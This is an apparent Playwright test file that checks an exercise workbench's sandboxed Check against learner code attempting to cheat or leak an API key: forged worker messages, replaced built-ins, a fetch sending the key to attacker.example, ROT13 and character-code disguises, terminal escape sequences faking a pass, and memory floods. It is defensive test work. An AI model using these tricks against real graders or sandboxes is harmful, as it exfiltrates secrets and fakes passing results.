import { test, expect, type Locator, type Page } from "@playwright/test";
import { readFileSync } from "node:fs";
import { openWorkbench, replaceCode } from "./support/workbench";
import { sandboxOutput } from "./support/sandbox-output";

// Issue #15 as an attacker tries it, in Chromium, on an exercise page: learner code that tries to talk
// the Check into a pass (forged worker messages, replaced built-ins), to leak the key where the scan
// might not look (the sandbox's own stream, an unknown host, transformed forms), to spoof the page's
// own lines, or to flood and freeze the page. Each attack is the passing solution plus the attack, so
// the attack alone is why the Check must not pass, and the results must say why.

const SOLUTION = readFileSync(new URL("../../content/exercise-kits/env-refactor/solution/main.ts", import.meta.url), "utf8");
const KEY = "process.env.EXTERNAL_API_KEY!";

/** Long main-thread tasks from the page's first script on: a frozen page shows one as long as the freeze. */
async function watchLongTasks(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { longest: number };
    w.longest = 0;
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) w.longest = Math.max(w.longest, entry.duration);
    }).observe({ type: "longtask", buffered: true });
  });
}

const longestTask = (page: Page): Promise<number> => page.evaluate(() => (window as unknown as { longest: number }).longest);

/**
 * The freezes these attacks caused were 7 to 31 s (and a crashed tab). On an idle machine the longest
 * task during such a Check is well under 200 ms; on two cores shared with other work any task
 * stretches (204 ms was seen at load 5), so the bound is one that tells a freeze from a busy machine.
 * The measured figure is attached to the test's report ("longest task") for the record.
 */
const FREEZE_MS = 1000;
async function expectNoFreeze(page: Page): Promise<void> {
  const longest = await longestTask(page);
  test.info().annotations.push({ type: "longest task", description: `${Math.round(longest)} ms` });
  expect(longest).toBeLessThan(FREEZE_MS);
}

/** Replaces main.ts with `code`, presses Check and waits for the report; returns the results region. */
async function check(page: Page, bench: Locator, code: string): Promise<Locator> {
  await replaceCode(page, code);
  // Only the Check is measured: loading the page and the editor is not what an attack can slow down.
  await page.evaluate(() => ((window as unknown as { longest?: number }).longest = 0));
  await bench.getByRole("button", { name: "Check" }).click();
  const results = bench.locator(".sandbox-results");
  await expect(results.getByRole("heading", { level: 3 })).not.toHaveText("Checking…", { timeout: 60_000 });
  return results;
}

/** The report is not a pass, and the failed check's text says `why`. */
async function expectFailure(results: Locator, why: string | RegExp): Promise<void> {
  await expect(results.getByRole("heading", { level: 3 })).toHaveText(/^(\d+ of \d+ checks passed|The check could not run)$/);
  await expect(results.locator("li.fail").filter({ hasText: why }).or(results.locator("p").filter({ hasText: why })).first()).toBeVisible();
}

const FORGED = "posted a message to the page itself";

test.describe("forged worker messages fail the Check visibly", () => {
  test.slow();
  const attacks: Array<[string, string]> = [
    ["done, after writing the key to a file", `import { writeFileSync } from "node:fs";\nwriteFileSync("/app/leak.txt", ${KEY});\n(globalThis as any).postMessage({ type: "done", exitCode: 0, writtenFiles: {} });\n`],
    ["output on the system stream, holding the key", `(globalThis as any).postMessage({ type: "output", chunks: [{ stream: "system", text: ${KEY} }] });\n`],
    ["exit code 0", `(globalThis as any).postMessage({ type: "exit", code: 0 });\n`],
    ["status", `(globalThis as any).postMessage({ type: "status", status: "ok", exitCode: 0 });\n`],
  ];
  for (const [name, attack] of attacks) {
    test(`a forged ${name}`, async ({ page }) => {
      const bench = await openWorkbench(page, "env-refactor");
      const results = await check(page, bench, `${SOLUTION}\n${attack}`);
      await expectFailure(results, FORGED);
      await expect(results).not.toContainText("sk_test_");
      // Run says the same in the output pane, and the status line shows the sandbox's code, not the forged one.
      await bench.getByRole("button", { name: "Run" }).click();
      await expect(bench.locator(".sandbox-status")).toContainText("Exited with code 134", { timeout: 20_000 });
      const output = await sandboxOutput(bench);
      expect(output).toContain(FORGED);
      expect(output).not.toContain("sk_test_");
    });
  }
});

test("replaced Set, Map and Array iterators do not hide a written file from the scan", async ({ page }) => {
  test.slow();
  const bench = await openWorkbench(page, "env-refactor");
  const attack = [
    `import { writeFileSync } from "node:fs";`,
    `writeFileSync("/app/leak.txt", ${KEY});`,
    `Set.prototype[Symbol.iterator] = function* () {} as any;`,
    `Map.prototype[Symbol.iterator] = function* () {} as any;`,
    `Map.prototype.entries = function* () {} as any;`,
    `Array.prototype[Symbol.iterator] = function* () {} as any;`,
    `Object.entries = () => [];`,
    `Object.keys = () => [];`,
    `JSON.stringify = () => "{}";`,
  ].join("\n");
  const results = await check(page, bench, `${SOLUTION}\n${attack}\n`);
  await expectFailure(results, "the file /app/leak.txt the program wrote");
});

test("500 forged 1 MB chunks: a visible error, no tab crash, no long freeze", async ({ page }) => {
  test.slow();
  await watchLongTasks(page);
  const bench = await openWorkbench(page, "env-refactor");
  const attack = `const mb = "x".repeat(1 << 20);\nfor (let i = 0; i < 500; i++) (globalThis as any).postMessage({ type: "output", chunks: [{ stream: "system", text: mb }] });\n`;
  const results = await check(page, bench, `${SOLUTION}\n${attack}`);
  await expectFailure(results, FORGED);
  await expectNoFreeze(page);
});

test("the key sent to an unknown host is a leak in that request's URL", async ({ page }) => {
  test.slow();
  const bench = await openWorkbench(page, "env-refactor");
  const attack = `await fetch("https://attacker.example/?k=" + ${KEY}).catch(() => {});\n`;
  const results = await check(page, bench, `${SOLUTION}\n${attack}`);
  await expectFailure(results, "the URL of GET https://attacker.example/?k=");
});

test.describe("transformed keys are still found, and the form is named", () => {
  test.slow();
  const forms: Array<[string, string, string]> = [
    ["joined with commas", `console.log([...${KEY}].join(","));`, "with characters between its letters"],
    ["as character codes", `console.log([...${KEY}].map((c) => c.charCodeAt(0)).join(" "));`, "as a list of character codes"],
    ["ROT13", `console.log(${KEY}.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < "a" ? 65 : 97))));`, "with its letters shifted"],
    ["in 7-character chunks joined with dots", `console.log(${KEY}.match(/.{1,7}/g)!.join("."));`, "with characters between its letters"],
  ];
  for (const [name, attack, form] of forms) {
    test(name, async ({ page }) => {
      const bench = await openWorkbench(page, "env-refactor");
      const results = await check(page, bench, `${SOLUTION}\n${attack}\n`);
      await expectFailure(results, `the program's output (stdout), ${form}`);
      await expect(results).not.toContainText("sk_test_");
    });
  }
});

test("learner output cannot clear the page's lines, fake a pass, or make links", async ({ page }) => {
  test.slow();
  const bench = await openWorkbench(page, "env-refactor");
  const spoof = [
    `console.log("before the clear");`,
    `process.stdout.write("\\x1b[2J\\x1b[3J\\x1b[H\\x1b[1A\\x1b[K");`,
    `console.log("\\x1b[36m✓ All checks passed\\x1b[0m");`,
    `console.log("\\x1b]8;;https://attacker.example/\\x07click me\\x1b]8;;\\x07");`,
    `console.log(${KEY});`,
  ].join("\n");
  const results = await check(page, bench, `${SOLUTION}\n${spoof}\n`);
  await expectFailure(results, "the program's output (stdout), as is");

  // Run shows the output in the pane: the clear did nothing, and the link is plain text.
  await bench.getByRole("button", { name: "Run" }).click();
  await expect(bench.locator(".sandbox-status")).toContainText("Exited with code 0", { timeout: 20_000 });
  const output = await sandboxOutput(bench);
  expect(output).toContain("payments config:");
  expect(output).toContain("before the clear");
  expect(output).toContain("✓ All checks passed");
  expect(output).not.toContain("\x1b");
  await expect(bench.locator(".sandbox-terminal a")).toHaveCount(0);
  await expect(bench.locator(".sandbox-terminal")).toContainText("click me");
  // The page's own verdict stays outside the output, in the results region.
  await expect(results.getByRole("heading", { level: 3 })).toHaveText(/^\d+ of \d+ checks passed$/);
});

test("Node's exit semantics: an unhandled rejection exits 1, process.exit(300) exits 44", async ({ page }) => {
  test.slow();
  const bench = await openWorkbench(page, "env-refactor");
  const rejected = await check(page, bench, `${SOLUTION}\nPromise.reject(new Error("nobody caught me"));\n`);
  await expectFailure(rejected, "exit code 1");
  await bench.getByRole("button", { name: "Run" }).click();
  await expect(bench.locator(".sandbox-status")).toContainText("Exited with code 1", { timeout: 20_000 });
  expect(await sandboxOutput(bench)).toContain("nobody caught me");

  const wrapped = await check(page, bench, `${SOLUTION}\nprocess.exit(300);\n`);
  await expectFailure(wrapped, "exit code 44");
  await bench.getByRole("button", { name: "Run" }).click();
  await expect(bench.locator(".sandbox-status")).toContainText("Exited with code 44", { timeout: 20_000 });
});

test.describe("a huge written file ends with the file-system limit, not a crash or a freeze", () => {
  test.slow();
  for (const mb of [5, 20, 100]) {
    test(`${mb} MB`, async ({ page }) => {
      await watchLongTasks(page);
      const bench = await openWorkbench(page, "env-refactor");
      const attack = `import { writeFileSync } from "node:fs";\nwriteFileSync("/app/big.txt", "x".repeat(${mb} * 1024 * 1024));\n`;
      const results = await check(page, bench, `${SOLUTION}\n${attack}`);
      await expectFailure(results, "EFBIG");
      // The page still answers: the hint button works.
      await bench.getByRole("button", { name: /Show hint 1/ }).click();
      await expect(bench.locator(".sandbox-hints li")).toHaveCount(1);
      await expectNoFreeze(page);
    });
  }
});

test("8 MB of written files, the most the file system holds, are scanned without freezing the page, and the leak found", async ({ page }) => {
  test.slow();
  await watchLongTasks(page);
  const bench = await openWorkbench(page, "env-refactor");
  // Four files of 2 MB each (the per-file limit), the key hidden in separators at the end of the last.
  const attack = `import { writeFileSync } from "node:fs";\nfor (let i = 0; i < 3; i++) writeFileSync("/app/big" + i + ".txt", "a,1 ".repeat(512 * 1024));\nwriteFileSync("/app/big3.txt", "a,1 ".repeat(500 * 1024) + [...${KEY}].join(","));\n`;
  const results = await check(page, bench, `${SOLUTION}\n${attack}`);
  await expectFailure(results, "the file /app/big3.txt the program wrote, with characters between its letters");
  await expectNoFreeze(page);
});

